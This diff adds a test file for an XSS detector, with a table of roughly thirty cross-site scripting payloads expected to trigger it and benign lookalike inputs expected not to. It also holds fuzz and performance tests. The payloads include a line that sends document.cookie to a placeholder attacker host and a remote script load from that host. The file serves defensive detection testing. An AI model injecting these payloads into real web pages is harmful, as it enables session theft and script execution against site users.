@@ -1,0 +1,197 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { isThreat } from '../../src/core/taxonomy.js';
+import type { ContentProfile, InspectedValue, Paranoia, ValueSource } from '../../src/detect/types.js';
+import { xssDetector } from '../../src/detect/xss.js';
+
+// The engine's default thresholds (config detect.thresholds): what "fires" means per paranoia.
+const THRESHOLD = { 1: 0.7, 2: 0.5, 3: 0.3 } as const;
+
+interface Row {
+  input: string;
+  expect: boolean;
+  paranoia?: Paranoia;
+  profile?: ContentProfile;
+  source?: ValueSource;
+  note?: string;
+}
+
+function inspect(row: Omit<Row, 'expect'>) {
+  const paranoia = row.paranoia ?? 1;
+  const input: InspectedValue = {
+    value: row.input,
+    location: 'query.q',
+    source: row.source ?? 'query',
+    profile: row.profile ?? 'generic',
+  };
+  const findings = xssDetector.compile({ paranoia })(input);
+  return { findings, fired: findings.some((f) => f.score >= THRESHOLD[paranoia]) };
+}
+
+const ROWS: Row[] = [
+  // tags that execute
+  { input: '<script>alert(1)</script>', expect: true },
+  { input: '<ScRiPt src=//evil.example/x.js></sCrIpT>', expect: true },
+  { input: '<svg/onload=alert(1)>', expect: true },
+  { input: '<img src=x onerror=alert(document.domain)>', expect: true },
+  { input: '<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>', expect: true },
+  { input: '<xss onbeforehellfreezes=alert(1)>', expect: true, note: 'unknown element, handler still runs' },
+  { input: '<iframe srcdoc="<img src=1 onerror=alert(1)>"></iframe>', expect: true },
+  { input: '<iframe src=http://evil.example>', expect: true },
+  { input: '<object data="javascript:alert(1)">', expect: true },
+  { input: '<a href="jav\tascript:alert(1)">x</a>', expect: true, note: 'scheme split by a tab' },
+  { input: '<a href=" j a v a s c r i p t :alert(1)">x</a>', expect: true },
+  { input: '<a href="vbscript:MsgBox(1)">x</a>', expect: true },
+  { input: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', expect: true },
+  { input: '<div style="width: expression(alert(1))">', expect: true },
+  { input: '<p style="background:url(javascript:alert(1))">', expect: true },
+  { input: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', expect: true },
+  {
+    input: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
+    expect: true,
+  },
+  // breakouts
+  { input: '" onmouseover="alert(1)', expect: true },
+  { input: "'><svg onload=alert(1)>", expect: true },
+  { input: '</script><script>alert(1)</script>', expect: true },
+  { input: '</textarea><img src=x onerror=alert(1)>', expect: true },
+  { input: '</title><svg/onload=confirm(1)>', expect: true },
+  { input: "';alert(1)//", expect: true },
+  { input: '"-alert(1)-"', expect: true },
+  { input: '`${alert(1)}`', expect: true },
+  { input: "x';document.location='http://evil.example/?c='+document.cookie;//", expect: true },
+  { input: 'javascript:alert(document.cookie)', expect: true },
+  { input: 'window["alert"](window["document"]["cookie"])', expect: true },
+  { input: 'document /*x*/ . cookie', expect: true },
+  { input: '[].sort.call`${alert}1337`', expect: true },
+  { input: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', expect: true, note: 'UTF-7' },
+  { input: '(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]', expect: true, note: 'JSFuck' },
+  // markup profile: only executable content
+  {
+    input: '<p>Hello <b>world</b></p><img src="https://cdn.example/a.png">',
+    expect: false,
+    profile: 'markup',
+  },
+  { input: '<p>Hello</p><script>alert(1)</script>', expect: true, profile: 'markup' },
+  { input: '<a href="javascript:alert(1)">x</a>', expect: true, profile: 'markup' },
+  { input: '<img src=x onerror=alert(1)>', expect: true, profile: 'markup' },
+  // benign text with < and >
+  { input: 'a < b and c > d', expect: false },
+  { input: '<select><option>A</option><option>B</option></select>', expect: false },
+  { input: '<title>Report</title><p>Quarterly numbers</p>', expect: false },
+  { input: 'I <3 this product <3', expect: false },
+  { input: 'Contact: John Doe <john.doe@example.com>', expect: false },
+  { input: 'I love <b>bold</b> text', expect: false },
+  { input: 'I love <b>bold</b> text', expect: true, paranoia: 2 },
+  { input: '{"a":1,"b":[1,2,3],"c":"x > y"}', expect: false },
+  { input: '# Title\n\n* item one\n* item > two\n\n`code` and **bold**', expect: false },
+  { input: 'if (x < 10 && y > 2) return;', expect: false },
+  { input: 'Please set an alert (not urgent) for tomorrow', expect: false },
+  { input: 'model.eval() then model.train()', expect: false },
+  { input: 'The JavaScript: The Good Parts book', expect: false },
+  { input: 'onion=3&option=monthly', expect: false },
+  { input: 'https://example.com/page?version=1.0&action=view', expect: false },
+  { input: 'Use the onload event to run code after the page loads', expect: false },
+  { input: 'Why document.cookie is not secure', expect: false },
+  { input: 'Why document.cookie is not secure', expect: true, paranoia: 2 },
+  { input: 'Check my site <a href="https://me.example">here</a>', expect: false },
+  { input: '<div class="card"><img src="https://cdn.example/a.png" alt="a"></div>', expect: false },
+  { input: '<img src="https://tracker.example/p.gif">', expect: true, paranoia: 2 },
+  { input: '2024-01-02 <= date <= 2024-12-31', expect: false },
+];
+
+describe('xss detector', () => {
+  it.each(ROWS)('$input → $expect (PL $paranoia, $profile)', (row) => {
+    expect(inspect(row).fired).toBe(row.expect);
+  });
+
+  it('reports the taxonomy ids, a short fragment and the location', () => {
+    const { findings } = inspect({ input: `${'x'.repeat(500)}<svg onload=alert(1)>${'y'.repeat(500)}` });
+    expect(findings).toHaveLength(1);
+    const f = findings[0];
+    expect(f).toMatchObject({
+      category: 'cross-site',
+      subtype: 'xss-reflected',
+      detector: 'xss',
+      location: 'query.q',
+    });
+    expect(f.fragment?.length).toBeLessThanOrEqual(120);
+    expect(f.fragment).toContain('<svg');
+  });
+
+  it('never throws and always returns well-formed findings (fuzz)', () => {
+    const pieces = [
+      '<',
+      '>',
+      '"',
+      "'",
+      '`',
+      '/',
+      '=',
+      'on',
+      'load',
+      'script',
+      'svg',
+      'javascript:',
+      '&{',
+      '${',
+      '(',
+      ')',
+      '[',
+      ']',
+      '!',
+      '+',
+      ' ',
+      '\t',
+      'alert',
+      'a',
+    ];
+    const arb = fc.oneof(
+      fc.string({ maxLength: 200 }),
+      fc.array(fc.constantFrom(...pieces), { maxLength: 60 }).map((a) => a.join('')),
+    );
+    const profiles: ContentProfile[] = ['generic', 'markup', 'free-text', 'url', 'code'];
+    fc.assert(
+      fc.property(
+        arb,
+        fc.constantFrom(...profiles),
+        fc.constantFrom<Paranoia>(1, 2, 3),
+        (value, profile, paranoia) => {
+          const out = xssDetector.compile({ paranoia })({
+            value,
+            location: 'body.$.x',
+            source: 'body',
+            profile,
+          });
+          for (const f of out) {
+            expect(isThreat(f.category, f.subtype)).toBe(true);
+            expect(f.score).toBeGreaterThanOrEqual(0.5);
+            expect(f.score).toBeLessThanOrEqual(1);
+            expect((f.fragment ?? '').length).toBeLessThanOrEqual(120);
+            expect(f.location).toBe('body.$.x');
+          }
+        },
+      ),
+      { numRuns: 400 },
+    );
+  });
+
+  it('stays linear on 1 MB of repeated near-matches', () => {
+    const run = xssDetector.compile({ paranoia: 3 });
+    for (const unit of [
+      '<svg on',
+      '<a x="<a x="',
+      '" onx=',
+      'javascript',
+      '[]!+',
+      'alert(',
+      'url(',
+      '</script',
+    ]) {
+      const value = unit.repeat(Math.ceil((1024 * 1024) / unit.length));
+      const t0 = performance.now();
+      run({ value, location: 'q', source: 'query', profile: 'generic' });
+      expect(performance.now() - t0).toBeLessThan(500);
+    }
+  });
+});
